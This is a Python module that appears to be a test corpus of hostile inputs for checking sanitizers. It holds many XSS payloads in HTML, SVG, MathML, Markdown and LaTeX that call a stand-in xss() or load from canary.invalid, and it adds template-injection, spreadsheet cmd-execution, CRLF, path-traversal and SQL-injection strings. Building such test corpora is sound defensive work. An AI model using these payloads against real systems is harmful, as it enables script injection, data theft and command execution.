"""Hostile texts: each calls ``xss()``, asks for something at ``canary.invalid``, or leads there.

`HTML` tries to be markup wherever it stands, `MARKDOWN` and `LATEX` where an author's languages
are read, `PLAIN` in what is not HTML: templates, spreadsheets, headers, terminals.
"""

from __future__ import annotations

_Q, _D, _B = "'", '"', "`"

HTML = (
    # elements that run or load by themselves
    "<script>xss()</script>",
    "<ScRiPt src=//canary.invalid/s.js></sCrIpT>",
    "<scr<script>ipt>xss()</scr</script>ipt>",
    "<script\x0c>xss()</script\x0c>",
    "<script>/*",
    "*/xss()//</script>",
    "<img src=x onerror=xss()>",
    "<img/src=//canary.invalid/i.png>",
    "<img src=`x`onerror=xss()>",
    "<image src=x onerror=xss()>",
    "<video><source onerror=xss()></video>",
    "<audio src=x onerror=xss()>",
    "<body onload=xss()>",
    "<iframe src=javascript:xss()></iframe>",
    "<iframe srcdoc='&lt;script>parent.xss()&lt;/script>'></iframe>",
    "<object data=javascript:xss()>",
    "<embed src=javascript:xss()>",
    "<base href=//canary.invalid/>",
    "<meta http-equiv=refresh content='0;url=//canary.invalid/'>",
    "<link rel=stylesheet href=//canary.invalid/c.css>",
    "<style>@import '//canary.invalid/c.css';*{background:url(//canary.invalid/b)}</style>",
    "<div style=background:url(//canary.invalid/b)>",
    "<input autofocus onfocus=xss()>",
    "<details open ontoggle=xss()>",
    "<marquee onstart=xss()>",
    "<select autofocus onfocus=xss()>",
    "<p onanimationstart=xss() class=spin>",
    "<button popovertarget=x onbeforetoggle=xss()>x</button><p popover id=x>",
    "<form action=//canary.invalid/ id=f><button form=f formaction=javascript:xss()>Check",
    "<a href=javascript:xss()>x</a>",
    "<a href='java\tscript:xss()'>x</a>",
    "<a href='&#106;avascript:xss()'>x</a>",
    "<a href='data:text/html,<script>xss()</script>'>x</a>",
    (
        "<template><script>xss()</script></template>"
        "<noscript><p title='</noscript><img src=x onerror=xss()>'>"
    ),
    # SVG and MathML
    "<svg onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    "<svg><a><set attributeName=href to=javascript:xss()><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=xss() />#x'></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.xss()</script>'></foreignObject></svg>",
    "<math><mi//xlink:href='javascript:xss()'>x</mi></math>",
    "<math href=javascript:xss()>x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=xss()></annotation-xml></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:xss()>x</maction></math>",
    # what a cleaner reads one way and a browser another
    (
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title='--&gt;&lt;img src=x onerror=xss()&gt;'>"
    ),
    "<svg></p><style><a id='</style><img src=x onerror=xss()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=xss()>",
    "<noscript><style></noscript><img src=x onerror=xss()>",
    "<![CDATA[><img src=x onerror=xss()>]]>",
    "<!--><img src=x onerror=xss()>-->",
    "<!-- --!><img src=x onerror=xss()>",
    "<?xml-stylesheet href='javascript:xss()'?><img src=x onerror=xss()>",
    "<xmp><img title='</xmp><img src=x onerror=xss()>'>",
    # out of where a text stands
    f"{_D}><img src=x onerror=xss()>",
    f"{_Q}><img src=x onerror=xss()>",
    f"{_D} onfocus=xss() autofocus x={_D}",
    f"{_Q} onfocus=xss() autofocus x={_Q}",
    f"{_B} onfocus=xss() autofocus x={_B}",
    " onfocus=xss() autofocus ",
    "</textarea><img src=x onerror=xss()>",
    "</title><img src=x onerror=xss()>",
    "</script><script>xss()</script>",
    "</style><img src=x onerror=xss()>",
    "</option></select><img src=x onerror=xss()>",
    "--><img src=x onerror=xss()>",
    "]]><img src=x onerror=xss()>",
    f"{_Q};xss();//",
    f"{_D};xss();//",
    "\\x3cimg src=x onerror=xss()\\x3e",
    "\\u003cimg src=x onerror=xss()\\u003e",
    "&lt;img src=x onerror=xss()&gt;",
    "&amp;lt;script&amp;gt;xss()&amp;lt;/script&amp;gt;",
    "%3Cscript%3Exss()%3C/script%3E",
    # other signs for the same
    "＜script＞xss()＜/script＞",
    "<img src=x onerror=xss()\u2028>",
    "\u202e<img src=x onerror=xss()>",
    "<\u200bscript>xss()</script>",
    "+ADw-script+AD4-xss()+ADw-/script+AD4-",
    "\ufeff<script>xss()</script>",
    "javascript:xss()",
    "//canary.invalid/next",
)

MARKDOWN = (
    "[x](javascript:xss())",
    "[x](java&#10;script:xss())",
    "[x](JaVaScRiPt&colon;xss())",
    "[x](data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==)",
    "[x](vbscript:xss())",
    "[x](<javascript:xss()>)",
    f"[x](# {_D}x{_D} onclick=xss())",
    "![x](//canary.invalid/i.png)",
    "![x](x onerror=xss())",
    f"![x{_D} onerror={_D}xss()](x)",
    "<javascript:xss()>",
    "[x][y]\n\n[y]: javascript:xss()",
    "![x][z]\n\n[z]: //canary.invalid/i.png 'x'",
    "```<img src=x onerror=xss()>\nx\n```",
    f"~~~{_D}><img src=x onerror=xss()>\nx\n~~~",
    "| a |\n|---|\n| <img src=x onerror=xss()> |",
    "# x {#y onload=xss()}",
    "::figure{<img src=x onerror=xss()>}",
    "`<img src=x onerror=xss()>`",
    "&#60;img src=x onerror=xss()&#62;",
)

LATEX = (
    r"$\href{javascript:xss()}{x}$",
    r"$\url{javascript:xss()}$",
    r"$\text{<img src=x onerror=xss()>}$",
    r"$\mathrm{<script>xss()</script>}$",
    r"$\style{background:url(//canary.invalid/b)}{x}$",
    r"$\class{x onload=xss()}{x}$",
    r"$\html{<img src=x onerror=xss()>}$",
    r"$\includegraphics{//canary.invalid/i.png}$",
    r"$\unicode{<img src=x onerror=xss()>}$",
    r"$x<img/src=x/onerror=xss()>y$",
    r"$\operatorname{</mi><img src=x onerror=xss()>}$",
    r"$$\begin{matrix}<svg onload=xss()>\end{matrix}$$",
    r"$\text{$</mtext><script>xss()</script>$}$",
    r"$\require{html}\def\x{\href{javascript:xss()}}\x{y}$",
)

PLAIN = (
    "{{ 1234 * 1234 }}",
    "{{ config }}{{ self.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${1234*1234}#{1234*1234}",
    "%(name)s%s%n{0.__class__}",
    "=HYPERLINK('http://canary.invalid/','x')",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "x\r\nSet-Cookie: x=xss()\r\n\r\n<script>xss()</script>",
    "\x1b[2J\x1b]0;x\x07\x00",
    "../../../../etc/passwd",
    "'; DROP TABLE attempt; --",
)

CORPUS = HTML + MARKDOWN + LATEX + PLAIN
